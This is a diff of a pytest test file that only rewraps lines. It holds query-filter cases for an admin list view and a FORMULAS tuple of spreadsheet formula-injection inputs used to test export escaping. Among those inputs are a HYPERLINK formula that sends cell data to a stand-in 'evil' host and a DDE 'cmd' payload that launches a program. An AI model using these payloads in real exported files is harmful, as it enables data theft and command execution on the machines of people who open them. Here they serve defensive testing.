@@ -60,13 +60,20 @@ def test_rows_tell_state_type_thing_target_tries_and_cause(admin, one):
 @pytest.mark.parametrize(
     ("query", "found"),
     [
-        ("state=waiting", True), ("state=failed", False), ("type=order.created", True), ("type=order.*", True),
-        ("type=lead.won", False), ("reason=paused", False), ("span=1h", True), ("since=2999-01-01T00:00", False),
-        ("until=2999-01-01T00:00", True), ("until=2001-01-01T00:00", False), ("q=o-1", True), ("q=o-2", False),
-        ("value=a-1001", True), ("value=zoë", True), ("value=A-2", False), ("state=no_route", False),
-        ("type=order.created&value=A-1001&state=waiting", True), ("where=data.number=='A-1001'", True),
-        ("where=data.number=='A-2'", False), ("where=data.customer.name=='Zoë' %26%26 id=='o-1'&value=zoë", True),
-        ("where=length(data.number)", True), ("where=length(data.total)", False), ("where=((", True),
+        ("state=waiting", True), ("state=failed", False), ("type=order.created", True),
+        ("type=order.*", True),
+        ("type=lead.won", False), ("reason=paused", False), ("span=1h", True),
+        ("since=2999-01-01T00:00", False),
+        ("until=2999-01-01T00:00", True), ("until=2001-01-01T00:00", False), ("q=o-1", True),
+        ("q=o-2", False),
+        ("value=a-1001", True), ("value=zoë", True), ("value=A-2", False),
+        ("state=no_route", False),
+        ("type=order.created&value=A-1001&state=waiting", True),
+        ("where=data.number=='A-1001'", True),
+        ("where=data.number=='A-2'", False),
+        ("where=data.customer.name=='Zoë' %26%26 id=='o-1'&value=zoë", True),
+        ("where=length(data.number)", True), ("where=length(data.total)", False),
+        ("where=((", True),
     ],
 )  # fmt: skip
 def test_the_address_narrows(admin, one, query, found):
@@ -261,8 +268,11 @@ def test_an_export_holds_what_the_page_shows(admin, make, acme, sixty):
 
 
 FORMULAS = (
-    '=HYPERLINK("http://evil?"&A1,"x")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1", '"=1"',
-    "  =1", ";=1", ",=1", "; =1", "|=1", "'=1", "\u00a0=1", "\u3000=1", "＝1", "＋1", "－1", "＠SUM(1)", ";＝1", "−1",
+    '=HYPERLINK("http://evil?"&A1,"x")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1",
+    "\r=1", "\n=1", '"=1"',
+    "  =1", ";=1", ",=1", "; =1", "|=1", "'=1", "\u00a0=1", "\u3000=1",
+    "＝1", "＋1", "－1", "＠SUM(1)",
+    ";＝1", "−1",
 )  # fmt: skip
 
 
